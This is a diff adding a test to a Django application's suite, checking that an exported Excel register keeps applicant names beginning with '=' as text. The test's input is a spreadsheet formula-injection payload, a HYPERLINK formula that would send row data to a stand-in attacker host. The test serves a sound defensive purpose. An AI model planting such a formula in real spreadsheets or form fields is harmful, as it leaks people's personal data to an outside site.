@@ -10,7 +10,7 @@ from openpyxl import load_workbook
 
 from dossiers.models import State
 from dossiers.printing.pdf import qr_code
-from dossiers.tests.conftest import at
+from dossiers.tests.conftest import APPLICANT, at
 from dossiers.tests.test_transitions import REASON, _act, reach
 
 PDFTOTEXT = shutil.which("pdftotext")
@@ -108,6 +108,21 @@ def test_register_as_pdf_and_excel(client_for, org, make_dossier):
     assert len(rows) == 1
     assert rows[0][1] == d.code and rows[0][3] == "Trần Thị Bích"
     assert rows[0][6] == at("2026-03-02 09:00").replace(tzinfo=None)
+
+
+def test_register_excel_writes_a_typed_formula_as_text(client_for, org, make_dossier):
+    """An applicant's name or address beginning with "=" stays text in the exported register:
+    as a formula it would run on the officer's computer and could send the rows' personal data
+    to another site (formula injection; motcua/spreadsheets.py)."""
+    name = '=HYPERLINK("http://ke-gian.example/?d="&D7&E7,"Bấm xem")'
+    address = "=1+2"
+    make_dossier(applicant=APPLICANT | {"name": name, "address": address})
+    r = client_for(org.desk).get(reverse("dossiers:register_xlsx"),
+                                 {"tu-ngay": "2026-03-01", "den-ngay": "2026-03-31"})
+    sheet = load_workbook(io.BytesIO(r.content)).active
+    row = next(row for row in sheet.iter_rows() if row[0].value == 1)
+    assert row[3].value == name and row[3].data_type == "s"
+    assert row[4].value.startswith(address) and row[4].data_type == "s"
 
 
 def test_form01_has_the_appointment_and_a_qr_code_to_the_status_page(client_for, org,
